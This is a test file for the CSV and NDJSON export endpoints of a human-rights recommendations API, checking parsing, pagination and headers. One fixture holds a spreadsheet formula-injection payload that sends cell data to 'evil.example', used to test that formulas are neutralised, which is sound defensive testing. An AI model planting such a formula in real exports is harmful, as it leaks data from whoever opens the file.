import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import t from 'tap';
import { buildApp } from '../src/app.js';
import { recommendationCsvColumns } from '../src/recommendations/csv.js';
import { insertRecommendation } from './fixtures.js';
import { buildTestApp, getJson } from './helpers.js';
import { importInto, RECONCILE_TERMAN, RECONCILE_UPR_INFO } from './import-helpers.js';

// Exports: CSV and NDJSON of every list, read back with a real CSV parser and compared with the JSON list
// for the same filters.

/** Texts a CSV writer gets wrong: separators, quotes, line breaks, non-ASCII, formulas, apostrophes. */
const TRICKY: Record<string, string> = {
  'KGZ-3-TST-1': 'Ensure "fair trials", due process, and the rule of law.',
  'KGZ-3-TST-2': 'Line one\nline two\r\nline three; and "four"',
  'KGZ-3-TST-3': 'Garantir l’égalité — Türkiye, Côte d’Ivoire, Кыргызстан, 日本語, 🌍',
  'KGZ-3-TST-4': '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'KGZ-3-TST-5': '+1 for progress',
  'KGZ-3-TST-6': '-2 setbacks',
  'KGZ-3-TST-7': '@SUM(A1:A9)',
  'KGZ-3-TST-8': '\tTabbed text',
  'KGZ-3-TST-9': '\rCarriage return first',
  'KGZ-3-TST-10': "'Tis quoted with an apostrophe",
  'KGZ-3-TST-11': "'=already neutralised by someone",
};

async function insertTricky(app: FastifyInstance): Promise<void> {
  for (const [id, text] of Object.entries(TRICKY)) {
    await insertRecommendation(app, {
      id,
      text,
      paragraph: id.endsWith('-4') ? '=1+2' : `121.${id.split('-').at(-1)}`,
      recommendingStates: id.endsWith('-3') ? ['FRA', 'TUR', 'CIV'] : ['ESP'],
      position: id.endsWith('-5') ? 'supported' : null,
    });
  }
}

/** The documented reading of a text cell: one leading apostrophe, when there is one, is not part of the text. */
const readText = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
const cells = (value: unknown): string =>
  value === null || value === undefined ? '' : Array.isArray(value) ? value.join('; ') : String(value);

/** What the README promises each CSV column holds, from a JSON list item (independent of the writer). */
function expectedRow(r: any, origin: string): Record<string, string> {
  return {
    id: r.id,
    url: `${origin}/v1/recommendations/${encodeURIComponent(r.id)}`,
    reviewId: r.reviewId,
    stateUnderReview: r.stateUnderReview.id,
    stateUnderReviewName: r.stateUnderReview.name,
    cycle: String(r.cycle),
    session: cells(r.session),
    paragraph: cells(r.paragraph),
    text: r.text,
    verbatim: String(r.verbatim),
    recommendingStates: cells(r.recommendingStates.map((s: any) => s.id)),
    recommendingStateNames: cells(r.recommendingStates.map((s: any) => s.name)),
    unresolvedRecommendingStates: cells(r.unresolvedRecommendingStates),
    position: cells(r.position),
    positionLabel: cells(r.positionLabel),
    positionSource: cells(r.positionSource),
    actionCategory: cells(r.actionCategory),
    themes: cells(r.themes.map((x: any) => x.id)),
    themeLabels: cells(r.themes.map((x: any) => x.label)),
    themeSources: cells(r.themes.map((x: any) => x.source)),
    themeConfidences: cells(r.themes.map((x: any) => x.confidence ?? '')),
    sdgs: cells(r.sdgs.map((x: any) => x.id)),
    sdgLabels: cells(r.sdgs.map((x: any) => x.label)),
    affectedPersons: cells(r.affectedPersons.map((x: any) => x.id)),
    affectedPersonLabels: cells(r.affectedPersons.map((x: any) => x.label)),
    implementation: cells(r.implementation),
    developmentCount: String(r.developmentCount),
    recurrenceCount: String(r.recurrence.count),
    recurrenceEarliestCycle: cells(r.recurrence.earliestCycle),
    sources: cells(r.sources.map((s: any) => s.id)),
    sourceTitles: cells(r.sources.map((s: any) => s.title)),
    sourcePublishers: cells(r.sources.map((s: any) => s.publisher)),
    sourceUrls: cells(r.sources.map((s: any) => s.url)),
    sourcePublicationDates: cells(r.sources.map((s: any) => s.publishedOn ?? '')),
    version: String(r.version),
    createdAt: r.createdAt,
    updatedAt: r.updatedAt,
    sdgSources: cells(r.sdgs.map((x: any) => x.source ?? '')),
    affectedPersonSources: cells(r.affectedPersons.map((x: any) => x.source ?? '')),
    readingParagraphs: cells(r.sources.map((s: any) => s.reading?.paragraph ?? '')),
    readingPositions: cells(r.sources.map((s: any) => s.reading?.position ?? '')),
    readingPositionLabels: cells(r.sources.map((s: any) => s.reading?.positionLabel ?? '')),
    readingPositionSources: cells(r.sources.map((s: any) => s.reading?.positionSource ?? '')),
  };
}

const NUMBER_COLUMNS = new Set(['cycle', 'session', 'actionCategory', 'developmentCount', 'recurrenceCount', 'recurrenceEarliestCycle', 'version']);

/** Parses a recommendations CSV and undoes the formula neutralisation of its text columns. */
function readRecommendationsCsv(body: string): Record<string, string>[] {
  const rows = parse(body, { columns: true, bom: true, relax_quotes: false }) as Record<string, string>[];
  return rows.map((row) =>
    Object.fromEntries(Object.entries(row).map(([k, v]) => [k, NUMBER_COLUMNS.has(k) ? v : readText(v)])),
  );
}

t.test('recommendations CSV: read back, it equals the JSON list for the same filters', async (t) => {
  const app = await buildTestApp(t);
  await insertTricky(app);
  // Records with each source's reading (the corpus's and UPR Info's, merged), beside the seed's goals and groups.
  await importInto(app, RECONCILE_TERMAN);
  await importInto(app, RECONCILE_UPR_INFO);
  const origin = 'http://127.0.0.1:3000'; // PUBLIC_URL's default: http://HOST:PORT

  for (const query of ['', 'stateUnderReview=KGZ', 'recommendingState=ESP', 'position=unknown&sort=-id', 'q=trials']) {
    const json = (await getJson(app, `/v1/recommendations?limit=500&${query}`)).body;
    const response = await app.inject({ method: 'GET', url: `/v1/recommendations?${query}`, headers: { accept: 'text/csv' } });
    t.equal(response.statusCode, 200, query);
    t.match(response.headers['content-type'], /^text\/csv; charset=utf-8/);
    const rows = readRecommendationsCsv(response.body);
    t.equal(rows.length, json.meta.total, `${query}: as many rows as the list's total`);
    t.same(
      rows,
      json.data.map((r: unknown) => expectedRow(r, origin)),
      `${query}: same records, same values, same order`,
    );
  }

  const body = (await app.inject({ method: 'GET', url: '/v1/recommendations?format=csv' })).body;
  t.equal(body.slice(0, body.indexOf('\r\n')), recommendationCsvColumns.map((c) => c.name).join(','), 'header row');
  const provenance = (parse(body, { columns: true }) as Record<string, string>[]).find((r) => r.id === 'KGZ-1-76.2')!;
  t.same(
    [provenance.sources, provenance.readingParagraphs, provenance.readingPositions, provenance.readingPositionLabels],
    ['terman-uprs-2008-2014; upr-info-database-2008-2013', '76.2; ', 'pending; noted', 'consider; '],
    "each source's reading, in the order of sources (before: none in CSV)",
  );
  t.ok(readRecommendationsCsv(body).some((r) => r.sdgSources !== '' && r.affectedPersonSources !== ''), 'goals and groups with who gave them');
  t.ok(body.endsWith('\r\n'), 'every record ends in CRLF');
  t.notOk(body.startsWith('\uFEFF'), 'no BOM unless asked');
  const lines = body.split('\r\n');
  t.ok(lines.some((l) => l.startsWith(`KGZ-3-TST-4,`) && l.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)), 'a formula is quoted and neutralised');
  t.ok(lines.some((l) => l.startsWith('KGZ-3-TST-5,') && l.includes(",'+1 for progress,")), '+ neutralised');
  t.ok(lines.some((l) => l.startsWith('KGZ-3-TST-4,') && l.includes(",'=1+2,")), 'a formula paragraph is neutralised');
  t.match(body, /,3,35,/, 'cycle and session stay plain numbers');
  t.match(body, /"Line one\nline two\r\nline three; and ""four"""/, 'line breaks are kept inside a quoted cell');
  t.match(body, /Кыргызстан, 日本語, 🌍/, 'non-ASCII is written as UTF-8');
  t.match(body, /FRA; TUR; CIV|CIV; FRA; TUR|FRA; CIV; TUR|TUR; FRA; CIV|CIV; TUR; FRA|TUR; CIV; FRA/, 'several recommenders joined by "; "');
  const sheet = parse(body, { columns: true }) as Record<string, string>[];
  const three = sheet.find((r) => r.id === 'KGZ-3-TST-3')!;
  const codes = three.recommendingStates!.split('; ');
  t.equal(codes.length, 3);
  t.same(
    three.recommendingStateNames!.split('; '),
    codes.map((code) => ({ FRA: 'France', TUR: 'Türkiye', CIV: "Côte d'Ivoire" })[code] ?? code),
    'names in the same order as the codes',
  );
});

t.test('CSV extras: BOM, Content-Disposition, limit and cursor, HEAD', async (t) => {
  const app = await buildTestApp(t);

  const bom = await app.inject({ method: 'GET', url: '/v1/recommendations?format=csv&bom=true' });
  t.ok(bom.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'bom=true: UTF-8 byte order mark');
  t.equal(bom.body.slice(1, 3), 'id');
  const noBom = await app.inject({ method: 'GET', url: '/v1/recommendations?format=csv&bom=false' });
  t.equal(noBom.body.slice(0, 2), 'id');

  const today = new Date().toISOString().slice(0, 10);
  t.equal(bom.headers['content-disposition'], `attachment; filename="recommendations-${today}.csv"`);
  const nd = await app.inject({ method: 'GET', url: '/v1/developments?format=ndjson' });
  t.equal(nd.headers['content-disposition'], `attachment; filename="developments-${today}.ndjson"`);
  const json = await app.inject({ method: 'GET', url: '/v1/recommendations' });
  t.notOk(json.headers['content-disposition'], 'JSON is not an attachment');

  // With limit, an export is that page, with the Link header of the JSON list; without, it is complete.
  const page = await app.inject({ method: 'GET', url: '/v1/recommendations?format=csv&limit=3' });
  const pageRows = parse(page.body, { columns: true }) as { id: string }[];
  t.equal(pageRows.length, 3);
  const jsonPage = (await getJson(app, '/v1/recommendations?limit=3')).body;
  t.same(pageRows.map((r) => r.id), jsonPage.data.map((r: { id: string }) => r.id));
  t.match(page.headers.link, /^<\/v1\/recommendations\?format=csv&limit=3&cursor=[^>]+>; rel="next"$/);
  const next = await app.inject({ method: 'GET', url: page.headers.link!.toString().slice(1, -('>; rel="next"'.length)) });
  const nextRows = parse(next.body, { columns: true }) as { id: string }[];
  t.same(nextRows.map((r) => r.id), (await getJson(app, `/v1/recommendations?limit=3&cursor=${jsonPage.meta.nextCursor}`)).body.data.map((r: { id: string }) => r.id));
  const rest = await app.inject({ method: 'GET', url: `/v1/recommendations?format=csv&cursor=${jsonPage.meta.nextCursor}` });
  t.equal((parse(rest.body, { columns: true }) as unknown[]).length, 5, 'a cursor without limit: everything after it');
  t.notOk(rest.headers.link, 'a complete export has no next link');
  const last = await app.inject({ method: 'GET', url: '/v1/recommendations?format=ndjson&limit=500' });
  t.notOk(last.headers.link, 'no next link on the last page');
  t.equal(last.body.split('\n').filter(Boolean).length, 8);

  const empty = await app.inject({ method: 'GET', url: '/v1/recommendations?format=csv&stateUnderReview=FIN' });
  t.equal(empty.body, `${recommendationCsvColumns.map((c) => c.name).join(',')}\r\n`, 'no match: the header row only');
  const emptyNd = await app.inject({ method: 'GET', url: '/v1/recommendations?format=ndjson&stateUnderReview=FIN' });
  t.equal(emptyNd.statusCode, 200);
  t.equal(emptyNd.body, '', 'no match: an empty NDJSON body');

  const head = await app.inject({ method: 'HEAD', url: '/v1/recommendations?format=csv' });
  t.equal(head.statusCode, 200);
  t.match(head.headers['content-type'], /^text\/csv/);
  t.match(head.headers['content-disposition'], /^attachment/);
  t.ok(head.headers.etag);
  t.equal(head.body, '', 'HEAD: headers only');

  // A problem found once the export has begun (a q of no word is read by the export's query) is a problem of
  // its own: it said Content-Encoding: gzip (or br) over a body it sent plain, which clients could not decode,
  // and it was an attachment named recommendations-….csv with the export's ETag.
  for (const [url, encoding] of [
    ['/v1/recommendations?format=csv&q=%27', 'gzip'],
    ['/v1/recommendations?format=ndjson&q=%27', 'br'],
    ['/v1/developments?format=csv&q=%27', 'gzip'],
    ['/v1/recommendations?format=csv&q=%27&limit=5', 'gzip'],
  ] as const) {
    const refused = await app.inject({ method: 'GET', url, headers: { 'accept-encoding': encoding } });
    t.equal(refused.statusCode, 400, url);
    t.match(refused.headers['content-type'], /^application\/problem\+json/, url);
    t.notOk(refused.headers['content-encoding'], `${url}: no content coding over a plain body`);
    t.notOk(refused.headers['content-disposition'], `${url}: not an attachment`);
    t.notOk(refused.headers.link, `${url}: no next page`);
    t.notMatch(String(refused.headers.etag ?? ''), /-(gzip|br)"$/, `${url}: no ETag of a coding`);
    t.match(JSON.parse(refused.body), { status: 400, errors: [{ name: 'q' }] }, url);
  }

  // HEAD of a page answers the headers GET answers, its Link to the next page included (RFC 9110 §9.3.2).
  for (const url of ['/v1/recommendations?format=csv&limit=3', '/v1/recommendations?format=ndjson&limit=3', '/v1/states?format=csv&limit=3']) {
    const get = await app.inject({ method: 'GET', url });
    const headPage = await app.inject({ method: 'HEAD', url });
    t.match(get.headers.link, /rel="next"/, `${url}: GET links the next page`);
    t.equal(headPage.headers.link, get.headers.link, `${url}: HEAD has the same Link`);
    t.equal(headPage.headers['content-type'], get.headers['content-type']);
    t.equal(headPage.body, '', `${url}: HEAD, headers only`);
  }
});

t.test('NDJSON: one JSON object per line, equal to the JSON list items', async (t) => {
  const app = await buildTestApp(t);
  await insertTricky(app);
  for (const [resource, query] of [
    ['recommendations', 'stateUnderReview=KGZ'],
    ['recommendations', 'q=trials'],
    ['developments', 'stateUnderReview=KGZ'],
    ['statements', ''],
    ['reviews', ''],
    ['states', 'regionalGroup=WEOG'],
  ] as const) {
    const json = (await getJson(app, `/v1/${resource}?limit=500&${query}`)).body;
    const response = await app.inject({ method: 'GET', url: `/v1/${resource}?${query}`, headers: { accept: 'application/x-ndjson' } });
    t.match(response.headers['content-type'], /^application\/x-ndjson; charset=utf-8/);
    t.ok(response.body.endsWith('\n'), `${resource}: every line ends in LF`);
    const lines = response.body.split('\n').slice(0, -1);
    t.equal(lines.length, json.meta.total, `${resource}?${query}: one line per record`);
    t.same(lines.map((line) => JSON.parse(line)), json.data, `${resource}?${query}: the same items`);
    t.ok(lines.every((line) => !line.includes('\n')), 'no raw line break inside a line');
  }
});

t.test('CSV of every list resource: one row per record, an absolute url column', async (t) => {
  const app = await buildTestApp(t);
  const cases = [
    { resource: 'developments', key: 'id', query: 'stateUnderReview=KGZ', check: ['title', 'date', 'direction'] },
    { resource: 'statements', key: 'id', query: '', check: ['summary', 'date', 'stage'] },
    { resource: 'reviews', key: 'id', query: '', check: ['reportSymbol', 'cycle'] },
    { resource: 'states', key: 'id', query: '', check: ['name', 'regionalGroup'] },
  ];
  for (const { resource, key, query, check } of cases) {
    const json = (await getJson(app, `/v1/${resource}?limit=500&${query}`)).body;
    const response = await app.inject({ method: 'GET', url: `/v1/${resource}?format=csv&${query}` });
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    t.equal(rows.length, json.meta.total, `${resource}: every record`);
    rows.forEach((row, i) => {
      const record = json.data[i];
      t.equal(row[key], record[key], `${resource} row ${i}: same record, same order`);
      t.equal(row.url, `http://127.0.0.1:3000/v1/${resource}/${encodeURIComponent(record[key])}`);
      for (const field of check) t.equal(readText(row[field]!), cells(record[field]), `${resource}.${field}`);
    });
  }

  const developments = parse((await app.inject({ method: 'GET', url: '/v1/developments?format=csv' })).body, {
    columns: true,
  }) as Record<string, string>[];
  const json = (await getJson(app, '/v1/developments?limit=500')).body.data;
  t.same(
    developments.map((d) => [d.stateUnderReview, d.themes, d.recommendationIds, d.sourceUrls]),
    json.map((d: any) => [d.stateUnderReview.id, cells(d.themes.map((x: any) => x.id)), cells(d.recommendationIds), cells(d.sources.map((s: any) => s.url))]),
    'developments: multi-valued columns',
  );
  const statements = parse((await app.inject({ method: 'GET', url: '/v1/statements?format=csv' })).body, { columns: true }) as Record<string, string>[];
  t.ok(statements.some((s) => s.speakerType === 'organization' && s.speakerId === '' && s.speakerName === 'Human Rights Watch'));
  t.ok(statements.some((s) => s.speakerType === 'state' && s.speakerId === 'IRL'));
  const states = parse((await app.inject({ method: 'GET', url: '/v1/states?format=csv' })).body, { columns: true }) as Record<string, string>[];
  t.equal(states.length, 195);
  t.equal(states.find((s) => s.id === 'VAT')!.regionalGroup, '', 'null is an empty cell');
  t.equal(states.find((s) => s.id === 'USA')!.regionalGroup, 'WEOG', 'the United States: WEOG for UPR statistics');
  t.match(states.find((s) => s.id === 'USA')!.regionalGroupNote, /sits with WEOG as an observer/, 'with the reason');
  t.equal(states.find((s) => s.id === 'VAT')!.unMember, 'false');
});

t.test('an export on an in-memory database reads from a copy of it', async (t) => {
  const app = await buildApp({ databasePath: ':memory:', logLevel: 'silent' });
  t.teardown(() => app.close());
  const response = await app.inject({ method: 'GET', url: '/v1/recommendations?format=csv&stateUnderReview=KGZ' });
  t.equal((parse(response.body, { columns: true }) as unknown[]).length, 8);
});

t.test('the README documents the recommendations CSV columns as they are', async (t) => {
  const readme = readFileSync(new URL('../README.md', import.meta.url), 'utf8');
  const section = readme.slice(readme.indexOf('### Exports: CSV and NDJSON'), readme.indexOf('### Statistics for dashboards'));
  const documented = [...section.matchAll(/^\| `([A-Za-z]+)` \| (.+) \|$/gm)].map((m) => [m[1], m[2]]);
  t.same(
    documented,
    recommendationCsvColumns.map((c) => [c.name, c.description]),
    'the same columns, in the same order, with the same meanings',
  );
});
